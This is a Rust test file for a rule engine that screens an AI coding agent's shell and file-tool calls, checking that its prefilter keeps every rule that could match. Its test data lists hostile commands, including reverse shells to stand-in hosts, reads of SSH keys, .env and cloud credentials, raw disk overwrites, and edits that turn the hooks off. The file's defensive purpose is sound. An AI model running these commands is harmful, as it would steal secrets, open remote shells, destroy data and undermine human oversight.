//! The prefilter only leaves out rules that cannot match: evaluating an event's
//! whole bucket and evaluating only the candidates the prefilter keeps (with
//! the paths commands name, as `run` does) give the same contributions and
//! errors. Checked on every command of the corpus and on commands that reach
//! the pack's path lists indirectly (a `cd` first, `..`, `~`, `$HOME`, case,
//! redirections, devices, expansions the shell model cannot know), with a
//! home and a project folder so every form of a path (`~/…`,
//! `$PROJECT_DIR/…`) is in play.

use std::collections::BTreeMap;
use std::path::PathBuf;

use hookrules::compile::set::{CompiledSet, Query};
use hookrules::contract::Event;
use hookrules::eval::{evaluate, trace::NoTrace, Ctx};
use hookrules::os::clock::Now;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn corpus_commands() -> Vec<String> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("tests/corpus"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "toml"))
        .collect();
    files.sort();
    let mut out = vec![];
    for f in &files {
        let corpus: toml::Table = toml::from_str(&std::fs::read_to_string(f).unwrap()).unwrap();
        for case in corpus["case"].as_array().unwrap() {
            if let Some(c) = case.get("command").and_then(|c| c.as_str()) {
                out.push(c.to_string());
            }
        }
    }
    out
}

/// Paths the pack's lists judge, named the ways a command can name them
/// without spelling out the literal a list requires.
const INDIRECT: &[&str] = &[
    "npm test -- --watch=false",
    "cd ~ && cat .env",
    "cd ~/.ssh; cat id_rsa",
    "cd /; cat etc/shadow",
    "cd /etc && tee passwd < x",
    "cd /home/dev/proj/sub && cat ../.env",
    "cat ./sub/../.env.local",
    "cat $HOME/.aws/credentials",
    "cat \"${HOME}/.ssh/id_ed25519\"",
    "cat ~/.SSH/ID_RSA",
    "cat .ENV",
    "cat .Env.Production",
    "CAT .env",
    "cat < .env",
    "cat 0<.env",
    "while read l; do echo $l; done < .env",
    "cat $X/.env",
    "cat $(pwd)/.env",
    "cat `echo .env`",
    "less .e*",
    "cat .en?",
    "cp .env /tmp/x",
    "tee /dev/sda < image",
    "cd /dev && tee sda < image",
    "cd /dev; echo x | tee nvme0n1",
    "echo x > /dev/sdb",
    "cd / && echo x > dev/sdc",
    "exec 3<>/dev/tcp/10.0.0.1/4444",
    "cat < /dev/tcp/evil.example/80",
    "cd /dev/tcp && cat host/80",
    "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
    "echo 'alias ls=rm' >> ~/.bashrc",
    "cd ~ && echo x >> .bashrc",
    "cd ~/.config && touch hookrules/x.toml",
    "rm -rf .claude/hookrules",
    "cd .claude && rm -rf hookrules",
    "tee .claude/settings.json < x",
    "cd ~/.local/state && rm -rf hookrules",
    "touch ../../etc/cron.d/job",
    "cd /usr/local && touch bin/x",
    "cd /etc; sed -i s/a/b/ hosts",
    "truncate -s 0 /var/log/syslog",
    "cd /var && truncate -s 0 log/syslog",
    "ln -s /etc/passwd x && cat x",
    "find . -name '*.pem' -exec cat {} +",
    "xargs cat < list.txt",
    "cat $(cat files.txt)",
    "cd \"$PROJECT_DIR\" && cat .env",
    "cat /proc/self/environ",
    "cd /proc/self && cat environ",
    "cat ~/.kube/config",
    "cat terraform.tfstate",
    "cat secrets.yaml",
    "cat id_rsa",
    "cat ~/.netrc",
    "cat /etc/ssl/private/key.pem",
    "unparsable $(",
    "cat 'unterminated",
    // What a command writes, however it says so (the `command.when` and
    // some-path atoms): every redirection operator, a second redirection,
    // a program run by path, a write through a variable.
    "echo x >| .env",
    "cat a 2> /etc/motd > .env.local",
    "true &> ~/.ssh/config",
    "exec 3<> /etc/hosts",
    "./build.sh ~",
    "tools/run.sh /",
    "echo x > \"$OUT\"",
    // A list's literal at the start of a path (`/dev/` of the devices), and
    // the same letters inside one (`/home/dev/`).
    "cat /dev/nvme0n1p1",
    "cat dev/sda",
    "cd / && cat ./dev/sdb",
    "cat /home/dev/sda",
];

fn outcome(set: &CompiledSet, event: &Event, ctx: &Ctx, prefilter: bool) -> String {
    let query = Query {
        prefilter,
        explain: false,
    };
    let compiled = if prefilter {
        set.for_event_with(event, query, Some(ctx))
    } else {
        set.for_event(event, query)
    };
    let o = evaluate(&compiled, event, ctx, &mut NoTrace);
    format!("{:?}\n{:?}", o.contributions, o.errors)
}

/// Check one command: the prefiltered rules decide what all of them decide.
/// Returns how many rules the prefilter left out.
fn left_out_for(set: &CompiledSet, env: &BTreeMap<String, String>, cwd: &str, cmd: &str) -> usize {
    let json = serde_json::json!({
        "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": cmd}, "session_id": "s", "cwd": cwd,
    });
    left_out_of(set, env, &json)
}

/// [`left_out_for`], for any event.
fn left_out_of(
    set: &CompiledSet,
    env: &BTreeMap<String, String>,
    json: &serde_json::Value,
) -> usize {
    let event = Event::parse(json.to_string().as_bytes()).unwrap();
    let ctx = Ctx::from_env(&event, env.clone().into(), Now::at(1_763_700_000));
    // Some commands are judged against the disk (`mv /tmp /tmp2` looks for
    // guarded places in /tmp), where the other tests of this binary make and
    // remove folders at the same time. The prefiltered outcome is compared
    // with the whole one only when the whole one came out the same just
    // before and just after it: the disk did not change in between. A real
    // disagreement does not depend on the disk, so it fails every time.
    let mut tries = 0;
    loop {
        let before = outcome(set, &event, &ctx, false);
        let some = outcome(set, &event, &ctx, true);
        let after = outcome(set, &event, &ctx, false);
        if before == after {
            assert_eq!(some, before, "{json}");
            break;
        }
        tries += 1;
        assert!(
            tries < 20,
            "{json}: the whole bucket's outcome changed between two evaluations 20 times"
        );
    }
    let query = Query {
        prefilter: true,
        explain: false,
    };
    let kept: usize = set
        .for_event_with(&event, query, Some(&ctx))
        .buckets
        .iter()
        .map(|b| b.rules.len())
        .sum();
    let whole: usize = set
        .for_event(&event, Query::default())
        .buckets
        .iter()
        .map(|b| b.rules.len())
        .sum();
    whole - kept
}

#[test]
fn the_prefilter_leaves_out_only_rules_that_cannot_match() {
    let set = CompiledSet::build(&hookrules::policy::discover::builtin());
    let mut env = BTreeMap::new();
    env.insert("HOME".to_string(), "/home/dev".to_string());
    env.insert(
        "CLAUDE_PROJECT_DIR".to_string(),
        "/home/dev/proj".to_string(),
    );
    let corpus = corpus_commands();
    assert!(corpus.len() > 1000, "the corpus: {}", corpus.len());
    // The corpus from the project; the indirect commands from three places.
    let mut cases: Vec<(&str, &str)> = corpus
        .iter()
        .map(|c| ("/home/dev/proj", c.as_str()))
        .collect();
    for cwd in ["/home/dev/proj", "/home/dev", "/"] {
        cases.extend(INDIRECT.iter().map(|c| (cwd, *c)));
    }
    // The cases are split over the cores (one test, one binary: else one core
    // does all the work); each thread counts what it left out.
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
    let chunk = cases.len().div_ceil(threads);
    let left_out: usize = std::thread::scope(|scope| {
        let workers: Vec<_> = cases
            .chunks(chunk)
            .map(|part| {
                let (set, env) = (&set, &env);
                scope.spawn(move || {
                    let mut left_out = 0;
                    for &(cwd, cmd) in part {
                        left_out += left_out_for(set, env, cwd, cmd);
                    }
                    left_out
                })
            })
            .collect();
        workers.into_iter().map(|w| w.join().unwrap()).sum()
    });
    // The prefilter does leave rules out (else this test proves nothing).
    assert!(left_out > cases.len(), "{left_out} rules left out");
}

/// The file-tool calls of the corpus, as events.
fn corpus_tool_calls() -> Vec<serde_json::Value> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("tests/corpus"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "toml"))
        .collect();
    files.sort();
    let mut out = vec![];
    for f in &files {
        let corpus: toml::Table = toml::from_str(&std::fs::read_to_string(f).unwrap()).unwrap();
        for case in corpus["case"].as_array().unwrap() {
            let Some(tool) = case.get("tool").and_then(|t| t.as_str()) else {
                continue;
            };
            let mut input = serde_json::Map::new();
            for k in [
                "file_path",
                "path",
                "pattern",
                "glob",
                "content",
                "new_string",
            ] {
                if let Some(v) = case.get(k).and_then(|v| v.as_str()) {
                    input.insert(k.into(), v.into());
                }
            }
            if tool == "Edit" {
                input.insert("old_string".into(), "hello".into());
            }
            let cwd = case.get("cwd").and_then(|v| v.as_str());
            out.push(serde_json::json!({
                "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input,
                "session_id": "s", "cwd": cwd.unwrap_or("/home/dev/proj"),
            }));
        }
    }
    out
}

/// Calls that lack a field some rules read, or have one only some calls
/// have (a subagent's `agent_id`), for every tool the pack and the seeds
/// name.
fn partial_calls() -> Vec<serde_json::Value> {
    let inputs = [
        ("Bash", serde_json::json!({})),
        (
            "Bash",
            serde_json::json!({"command": "cat .claude/settings.json"}),
        ),
        ("Read", serde_json::json!({})),
        (
            "Write",
            serde_json::json!({"content": "{\"disableAllHooks\": true}"}),
        ),
        (
            "Write",
            serde_json::json!({"file_path": ".claude/settings.json", "content": "{\"disableAllHooks\": true}"}),
        ),
        (
            "Write",
            serde_json::json!({"file_path": "/home/dev/.gitconfig"}),
        ),
        (
            "Edit",
            serde_json::json!({"file_path": ".git/config", "old_string": "a"}),
        ),
        (
            "MultiEdit",
            serde_json::json!({"file_path": ".git/config", "edits": [{"old_string": "a", "new_string": "[core]\n\tfsmonitor = x"}]}),
        ),
        (
            "MultiEdit",
            serde_json::json!({"file_path": ".claude/settings.json", "edits": [{"old_string": "a", "new_string": "\"disableAllHooks\": true"}]}),
        ),
        ("PowerShell", serde_json::json!({})),
        ("Task", serde_json::json!({"prompt": "review"})),
        (
            "WebFetch",
            serde_json::json!({"url": "https://example.com"}),
        ),
    ];
    let mut out = vec![];
    for (tool, input) in inputs {
        for agent in [None, Some("Explore")] {
            let mut event = serde_json::json!({
                "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input,
                "session_id": "s", "cwd": "/home/dev/proj",
            });
            if let Some(agent) = agent {
                event["agent_id"] = "a1".into();
                event["agent_type"] = agent.into();
            }
            out.push(event);
        }
    }
    for name in ["Stop", "SubagentStop", "UserPromptSubmit", "SessionStart"] {
        out.push(serde_json::json!({"hook_event_name": name, "session_id": "s", "cwd": "/home/dev/proj"}));
    }
    out
}

/// The same as for commands, for tool calls and calls that lack fields: the
/// prefilter leaves a rule out for a field the call lacks (a rule that
/// cannot match without it, an `any` branch that reads it) only when it
/// cannot match. Over the pack and each seed's policies.
#[test]
fn the_prefilter_keeps_every_rule_a_tool_call_can_match() {
    let mut sets = vec![CompiledSet::build(&hookrules::policy::discover::builtin())];
    for dir in std::fs::read_dir(root().join("examples")).unwrap() {
        let p = dir.unwrap().path().join("policies");
        if p.is_dir() {
            let d = hookrules::policy::discover::Discovery {
                flags: vec![p],
                ..Default::default()
            };
            sets.push(CompiledSet::build(&d.find()));
        }
    }
    let mut env = BTreeMap::new();
    env.insert("HOME".to_string(), "/home/dev".to_string());
    env.insert(
        "CLAUDE_PROJECT_DIR".to_string(),
        "/home/dev/proj".to_string(),
    );
    let mut events = corpus_tool_calls();
    assert!(
        events.len() > 300,
        "the corpus' tool calls: {}",
        events.len()
    );
    // A call the contract refuses (a Bash call without its command) reaches
    // no rule.
    let partial: Vec<serde_json::Value> = partial_calls()
        .into_iter()
        .filter(|e| Event::parse(e.to_string().as_bytes()).is_ok())
        .collect();
    assert!(partial.len() > 10, "partial calls: {}", partial.len());
    events.extend(partial);
    let mut left_out = 0;
    for set in &sets {
        for json in &events {
            left_out += left_out_of(set, &env, json);
        }
    }
    assert!(left_out > events.len(), "{left_out} rules left out");
}

/// A `class` test is judged in the prefilter by the classes of the paths
/// picked, as the test judges them: a private key known only by its content
/// (no secret's name) keeps its rule, read or copied, and the same command
/// on a file that is no key leaves it out.
#[test]
fn the_prefilter_keeps_a_key_known_by_its_content() {
    let set = CompiledSet::build(&hookrules::policy::discover::builtin());
    let dir = tempfile::tempdir().unwrap();
    let project = dir.path().join("proj");
    std::fs::create_dir_all(project.join("deploy")).unwrap();
    std::fs::write(
        project.join("deploy/id_deploy"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    std::fs::write(project.join("deploy/notes"), "deploy notes\n").unwrap();
    let project = project.to_str().unwrap();
    let mut env = BTreeMap::new();
    env.insert("HOME".to_string(), dir.path().to_str().unwrap().to_string());
    env.insert("CLAUDE_PROJECT_DIR".to_string(), project.to_string());
    let key_rule = |cmd: &str| {
        let json = serde_json::json!({
            "hook_event_name": "PreToolUse", "tool_name": "Bash",
            "tool_input": {"command": cmd}, "session_id": "s", "cwd": project,
        });
        let event = Event::parse(json.to_string().as_bytes()).unwrap();
        let ctx = Ctx::from_env(&event, env.clone().into(), Now::at(1_763_700_000));
        let query = Query {
            prefilter: true,
            explain: false,
        };
        set.for_event_with(&event, query, Some(&ctx))
            .buckets
            .iter()
            .flat_map(|b| b.rules.iter())
            .any(|r| r.id == "secret-key-content-shell")
    };
    for cmd in [
        "cat deploy/id_deploy",
        "cp deploy/id_deploy /tmp/k",
        "cd deploy && less id_deploy",
    ] {
        left_out_for(&set, &env, project, cmd);
        assert!(key_rule(cmd), "{cmd}: the key's rule is a candidate");
    }
    for cmd in ["cat deploy/notes", "npm test -- --watch=false"] {
        left_out_for(&set, &env, project, cmd);
        assert!(!key_rule(cmd), "{cmd}: the key's rule is left out");
    }
}
/// Every rule a shell call reaches is decoded from the embedded pack and
/// evaluated: its cost is paid on every command of every user. A command
/// that runs a program no rule names, with options and a file no rule looks
/// for, must reach no rule of the pack, in Bash and in PowerShell; the
/// bench's harmless call (`bench/events/PreToolUse-Bash.json`) too. (A
/// write, `> out.txt`, reaches the rules about what a redirection
/// overwrites: they ask only for a redirection that writes.)
#[test]
fn a_shell_command_no_rule_looks_for_reaches_no_rule() {
    let set = CompiledSet::build(&hookrules::policy::discover::builtin());
    let mut env = BTreeMap::new();
    env.insert("HOME".to_string(), "/home/dev".to_string());
    env.insert(
        "CLAUDE_PROJECT_DIR".to_string(),
        "/home/dev/proj".to_string(),
    );
    let mut events = vec![serde_json::from_slice::<serde_json::Value>(
        &std::fs::read(root().join("bench/events/PreToolUse-Bash.json")).unwrap(),
    )
    .unwrap()];
    for (tool, cmd) in [
        ("Bash", "frobnicate --level 3 notes.txt"),
        ("Bash", "frobnicate < notes.txt | tabulate --wide"),
        ("PowerShell", "Frobnicate-Item notes.txt -Level 3"),
    ] {
        events.push(serde_json::json!({
            "hook_event_name": "PreToolUse", "tool_name": tool,
            "tool_input": {"command": cmd}, "session_id": "s", "cwd": "/home/dev/proj",
        }));
    }
    let query = Query {
        prefilter: true,
        explain: false,
    };
    for json in &events {
        let event = Event::parse(json.to_string().as_bytes()).unwrap();
        let ctx = Ctx::from_env(&event, env.clone().into(), Now::at(1_763_700_000));
        let reached: Vec<String> = set
            .for_event_with(&event, query, Some(&ctx))
            .buckets
            .iter()
            .flat_map(|b| b.rules.iter().map(|r| r.id.clone()))
            .collect();
        assert!(
            reached.is_empty(),
            "{}: {reached:?} reach a command no rule looks for, so they are decoded and \
             evaluated on every shell call. Give each branch of their `when` something the \
             prefilter can check: a program (not `\"*\"`), a literal its text must hold, a \
             class of path, a path list (see `compile::reach`), and measure the harmless \
             call with `bench/callgrind.sh` (pre-bash)",
            json["tool_input"]["command"]
        );
    }
}

/// A `command` test's flags and arguments are judged before its rule is
/// read (the rule's gate, `compile::reach::gate`): a command that runs the
/// program but lacks them leaves the rule out, one that has them keeps it,
/// and either way the outcome is the whole bucket's. A rule that asks for
/// no flags, or whose other branch asks for none, stays a candidate.
#[test]
fn a_command_without_the_flags_a_rule_asks_for_leaves_it_out() {
    let dir = tempfile::tempdir().unwrap();
    let policies = dir.path().join("policies");
    std::fs::create_dir_all(&policies).unwrap();
    std::fs::write(
        policies.join("p.toml"),
        r#"
[[rule]]
id = "npm-yes"
events = ["PreToolUse"]
matcher = "Bash"
when = { commands = "tool_input.command", command = { program = ["npm"], flags_any = ["-y", "--yes"] } }
decision = "ask"
reason = "npm without questions"

[[rule]]
id = "npm-all"
events = ["PreToolUse"]
matcher = "Bash"
when = { commands = "tool_input.command", command = { program = ["npm", "pnpm"], flags_all = [["-g", "--global"], ["-f", "--force"]], flags_none = ["--dry-run"] } }
decision = "deny"
reason = "forced global install"

[[rule]]
id = "npm-prod"
events = ["PreToolUse"]
matcher = "Bash"
when = { any = [
  { commands = "tool_input.command", command = { program = ["npm"], subcommand = ["run"], arg_in = ["prod", "deploy"] } },
  { commands = "tool_input.command", command = { program = ["yarn"], arg_in = ["deploy"] } },
] }
decision = "ask"
reason = "a deploy"

[[rule]]
id = "npm-any"
events = ["PreToolUse"]
matcher = "Bash"
when = { any = [
  { commands = "tool_input.command", command = { program = ["npm"], flags_any = ["-y"] } },
  { commands = "tool_input.command", command = { program = ["npm"] } },
] }
context = "npm"
"#,
    )
    .unwrap();
    let set = CompiledSet::build(
        &hookrules::policy::discover::Discovery {
            flags: vec![policies],
            no_builtin: true,
            ..Default::default()
        }
        .find(),
    );
    let mut env = BTreeMap::new();
    env.insert("HOME".to_string(), "/home/dev".to_string());
    env.insert(
        "CLAUDE_PROJECT_DIR".to_string(),
        "/home/dev/proj".to_string(),
    );
    let candidates = |cmd: &str| -> Vec<String> {
        left_out_for(&set, &env, "/home/dev/proj", cmd);
        let json = serde_json::json!({
            "hook_event_name": "PreToolUse", "tool_name": "Bash",
            "tool_input": {"command": cmd}, "session_id": "s", "cwd": "/home/dev/proj",
        });
        let event = Event::parse(json.to_string().as_bytes()).unwrap();
        let ctx = Ctx::from_env(&event, env.clone().into(), Now::at(1_763_700_000));
        let query = Query {
            prefilter: true,
            explain: false,
        };
        set.for_event_with(&event, query, Some(&ctx))
            .buckets
            .iter()
            .flat_map(|b| b.rules.iter().map(|r| r.id.clone()))
            .collect()
    };
    for (cmd, want) in [
        ("npm test -- --watch=false", &["npm-any"][..]),
        ("npm install -y left-pad", &["npm-yes", "npm-any"]),
        ("NPM i --yes", &["npm-yes", "npm-any"]),
        ("npm i -g -f x", &["npm-all", "npm-any"]),
        ("npm i -g x", &["npm-any"]),
        ("pnpm add --global --force x", &["npm-all"]),
        ("npm i --global -f --dry-run x", &["npm-any"]),
        ("npm run prod", &["npm-prod", "npm-any"]),
        ("npm prod", &["npm-any"]),
        ("yarn deploy", &["npm-prod"]),
        ("yarn build", &[]),
        ("cd web && npm ci -y; echo done", &["npm-yes", "npm-any"]),
        // A command that does not parse may run anything.
        (
            "npm test $(",
            &["npm-yes", "npm-all", "npm-prod", "npm-any"],
        ),
    ] {
        let mut got = candidates(cmd);
        got.sort();
        let mut want: Vec<String> = want.iter().map(|s| s.to_string()).collect();
        want.sort();
        assert_eq!(got, want, "{cmd}");
    }
}
